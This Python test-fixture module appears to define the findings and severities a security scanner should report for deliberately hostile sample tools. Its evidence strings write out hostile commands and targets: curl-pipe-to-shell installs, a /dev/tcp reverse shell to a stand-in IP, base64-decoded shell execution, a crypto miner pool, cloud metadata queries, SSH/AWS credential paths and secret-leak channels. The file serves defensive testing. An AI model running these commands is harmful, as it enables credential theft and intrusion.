"""What a review must say of each tool that misbehaves: its rules, how bad, and in which words."""

from dataclasses import dataclass, field

__all__ = ["CASES", "LEAKS", "Case"]

TEXTS = {f"{each}.txt": b"Words that a person wrote.\n" * 60 for each in range(12)}


@dataclass(frozen=True, kw_only=True)
class Case:
    """One tool. found: all findings above "info". words: a part of a proof, by its rule."""

    found: dict[str, str]
    words: dict[str, str] = field(default_factory=dict[str, str])
    info: tuple[str, ...] = ()
    """Rules that are found at "info"."""
    files: dict[str, bytes] = field(default_factory=dict[str, bytes])
    """Given to it, as its arguments, too."""
    is_slow: bool = False


KEYS = {"reads-planted-secret": "medium", "reads-credentials": "medium"}

CASES: dict[str, Case] = {
    "steal_keys.py": Case(found=KEYS, words={"reads-planted-secret": "read /box/.kube/config"}),
    "steal_keys.sh": Case(
        found={
            **KEYS,
            "leaks-planted-secret": "high",
            "reads-planted-env-file": "low",
            "tries-credentials": "low",
            "reads-histories": "low",
        },
        words={
            "leaks-planted-secret": "the file notes.txt: SSH key in ~/.ssh/id_ed25519 (…",
            "reads-histories": "read /box/.bash_history, not there",
            "tries-credentials": "read /box/.docker/config.json, not there",
        },
        info=("reads-routine-settings",),
    ),
    "steal_keys.c": Case(
        found={
            **KEYS,
            "searches-stores-of-others": "medium",
            "reads-own-environment-file": "low",
        },
        words={"searches-stores-of-others": "read /box/.mozilla/firefox/profiles.ini, not there"},
    ),
    "write_outside.py": Case(
        found={"changes-the-system": "medium", "writes-outside-its-folder": "low"},
        words={
            "changes-the-system": "create /usr/local/bin/helper, refused",
            "writes-outside-its-folder": "create /left-behind, refused",
        },
    ),
    "write_outside.sh": Case(
        found={"changes-the-system": "medium", "writes-outside-its-folder": "low"},
        words={"writes-outside-its-folder": "create /left-behind, refused"},
    ),
    "write_outside.c": Case(
        found={"changes-the-system": "medium", "opens-devices": "medium"},
        words={
            "changes-the-system": "change /usr/bin/env, refused",
            "opens-devices": "read /dev/mem, not there",
        },
    ),
    "download_and_run.py": Case(
        found={
            "runs-what-it-downloads": "high",
            "starts-network-programs": "medium",
            "starts-a-shell": "low",
        },
        words={"runs-what-it-downloads": "-c curl -s https://get.tool.example/install | sh"},
        info=("asks-for-names",),
    ),
    "download_and_run.sh": Case(
        found={
            "runs-what-it-downloads": "high",
            "starts-network-programs": "medium",
            "starts-a-shell": "low",
        },
        words={"runs-what-it-downloads": "started curl -s https://get.tool.example/install"},
    ),
    "install_others.py": Case(
        found={"installs-packages": "medium"},
        words={"installs-packages": "-m pip install -q helper"},
        is_slow=True,
    ),
    "listen.py": Case(
        found={"listens-for-others": "low"},
        words={"listens-for-others": "bind 0.0.0.0 port 4444"},
        info=("listens-on-loopback",),
    ),
    "listen.c": Case(
        found={"listens-for-others": "low"},
        words={"listens-for-others": "listen 0.0.0.0 port 4444"},
    ),
    "metadata.py": Case(
        found={"asks-metadata-service": "high"},
        words={"asks-metadata-service": "connect 169.254.169.254 port 80, refused"},
    ),
    "metadata.sh": Case(
        found={"asks-metadata-service": "high", "starts-network-programs": "medium"},
        words={"asks-metadata-service": "started curl -s -m 1 http://169.254.169.254"},
    ),
    "metadata.c": Case(
        found={"asks-metadata-service": "high"},
        words={"asks-metadata-service": "connect 169.254.169.254 port 80, refused"},
    ),
    "reach_others.py": Case(
        found={
            "reaches-control-sockets": "high",
            "reaches-private-networks": "medium",
            "reaches-agents": "medium",
            "connects-outside": "low",
            "reaches-local-services": "low",
            "reaches-the-desktop": "low",
        },
        words={
            "reaches-control-sockets": "connect unix /var/run/docker.sock, not there",
            "reaches-private-networks": "connect 10.0.0.7 port 445, refused",
        },
    ),
    "ask_names.py": Case(
        found={
            "asks-metadata-service": "high",
            "talks-to-drop-services": "medium",
            "names-carry-data": "medium",
            "asks-for-its-own-address": "low",
        },
        words={"talks-to-drop-services": "resolve tool.webhook.site, refused"},
    ),
    "reverse_shell.py": Case(
        found={
            "opens-a-shell-to-others": "high",
            "starts-a-shell": "low",
            "connects-outside": "low",
        },
        words={"opens-a-shell-to-others": "/dev/tcp/192.0.2.1/4444"},
    ),
    "mine.py": Case(
        found={"mines-coins": "high"},
        words={"mines-coins": "started xmrig -o stratum+tcp://pool.example:3333, not there"},
    ),
    "schedule.py": Case(
        found={
            "persists-for-everybody": "high",
            "persists-in-the-home": "medium",
            "changes-the-system": "medium",
            "schedules-programs": "medium",
        },
        words={
            "persists-in-the-home": "create /box/.bashrc",
            "schedules-programs": "started crontab -l",
        },
    ),
    "schedule.sh": Case(
        found={"persists-for-everybody": "high", "persists-in-the-home": "medium"},
        words={"persists-for-everybody": "create /box/.ssh/authorized_keys"},
    ),
    "schedule.c": Case(
        found={"persists-for-everybody": "high", "persists-in-the-home": "medium"},
        words={"persists-in-the-home": "create /box/.profile"},
    ),
    "privileges.sh": Case(
        found={"asks-for-privileges": "medium"},
        words={"asks-for-privileges": "started chmod u+s helper"},
        info=("asks-who-and-where-it-is",),
    ),
    "inline.py": Case(
        found={
            "starts-long-inline-code": "medium",
            "starts-a-shell": "low",
            "starts-inline-code": "low",
        },
        words={"starts-inline-code": "-c print(1)"},
    ),
    "run_made.sh": Case(
        found={"runs-from-memory": "high", "runs-from-temporary-files": "low"},
        words={"runs-from-memory": "started helper"},
    ),
    "wipe.py": Case(
        found={"destroys-a-machine": "high"},
        words={"destroys-a-machine": "started wipefs --all --no-act /dev/null"},
    ),
    "refused_calls.py": Case(
        found={"asks-for-unusual-calls": "medium", "opens-unusual-sockets": "medium"},
        words={"asks-for-unusual-calls": "ptrace (EPERM), refused"},
        info=("loads-libraries",),
    ),
    "refused_calls.c": Case(
        found={"attacks-the-kernel": "high", "asks-for-unusual-calls": "medium"},
        words={
            "attacks-the-kernel": "bpf (EPERM), refused",
            "asks-for-unusual-calls": "io_uring_setup (ENOSYS), refused",
        },
        info=("other-missing-calls",),
    ),
    "refused_calls.sh": Case(
        found={
            "asks-for-privileges": "medium",
            "asks-for-unusual-calls": "medium",
            "writes-outside-its-folder": "low",
        },
        words={"asks-for-unusual-calls": "mount (EPERM), refused"},
    ),
    **{
        f"hide_{way}.py": Case(
            found={"decodes-and-runs": "medium"},
            words={"decodes-and-runs": "decode print("},
        )
        for way in ("base64", "zlib", "hex", "rot13", "fromhex")
    },
    "hide_marshal.py": Case(
        found={"loads-marshalled-code": "medium"},
        words={"loads-marshalled-code": "decode marshal at hide_marshal.py:6"},
    ),
    "hide_base64.sh": Case(
        found={"decodes-in-a-shell": "high", "starts-a-shell": "low"},
        words={"decodes-in-a-shell": "started base64 -d, by process"},
    ),
    "hide_in_argument.py": Case(
        found={"decodes-in-a-shell": "high", "starts-a-shell": "low"},
        words={"decodes-in-a-shell": "ZWNobyBoaWRkZW4gY29kZSBydW5zCg== | base64 -d | sh"},
    ),
    "unpickle.py": Case(
        found={"unpickles-programs": "high", "starts-a-shell": "low"},
        words={"unpickles-programs": "unpickle os.system at unpickle.py:5"},
        info=("unpickles",),
    ),
    "fork_storm.sh": Case(
        found={"forks-without-end": "medium"},
        words={"forks-without-end": "processes at the same time"},
        is_slow=True,
    ),
    "remove_inputs.sh": Case(
        found={"removes-many-inputs": "medium"},
        words={"removes-many-inputs": "removed 0.txt"},
        files=TEXTS,
    ),
    "scramble.py": Case(
        found={"scrambles-files": "high"},
        words={"scrambles-files": "changed 0.txt"},
        files=TEXTS,
    ),
    "scramble.c": Case(
        found={"scrambles-files": "high"},
        words={"scrambles-files": "changed 0.txt"},
        files=TEXTS,
    ),
    "signal_others.py": Case(
        found={"signals-init-or-everybody": "medium", "signals-others": "low"},
        words={"signals-init-or-everybody": "SIGURG to everybody"},
    ),
    "signal_others.sh": Case(
        found={"signals-init-or-everybody": "medium", "looks-into-processes": "medium"},
        words={"looks-into-processes": "read /proc/1/environ"},
    ),
    "flood.py": Case(
        found={"hits-limits": "low"},
        words={"hits-limits": "the output limit was reached"},
        is_slow=True,
    ),
    "look_around.py": Case(
        found={"asks-for-unusual-calls": "medium"},
        words={"checks-for-a-box": "look /.dockerenv, not there"},
        info=("checks-for-a-box",),
    ),
    "leak.sh": Case(
        found={**KEYS, "leaks-planted-secret": "high"},
        words={"leaks-planted-secret": "stdout: AWS secret key in ~/.aws/credentials (…"},
        info=("reads-planted-netrc",),
    ),
    "leak.c": Case(
        found={"leaks-planted-secret": "high", "connects-outside": "low"},
        words={"leaks-planted-secret": "what was sent to 192.0.2.1 port 9: GitHub token"},
    ),
}

LEAKS = {
    "argument": "the arguments of true: AWS secret key in $AWS_SECRET_ACCESS_KEY",
    "file": "the file out.txt: AWS secret key in $AWS_SECRET_ACCESS_KEY",
    "base64": "the file out.txt: SSH key in ~/.ssh/id_ed25519",
    "hex": "the file out.txt: SSH key in ~/.ssh/id_ed25519",
    "reversed": "the file out.txt: AWS secret key in $AWS_SECRET_ACCESS_KEY",
    "stdout": "stdout: AWS secret key in $AWS_SECRET_ACCESS_KEY",
    "dns": "a name that was asked for: AWS secret key in $AWS_SECRET_ACCESS_KEY",
    "url": "Python: url: AWS secret key in $AWS_SECRET_ACCESS_KEY",
    "udp": "what was sent to 192.0.2.1 port 9: AWS secret key in $AWS_SECRET_ACCESS_KEY",
}
"""Ways in which leak.py passes a secret on, and what is said of it."""
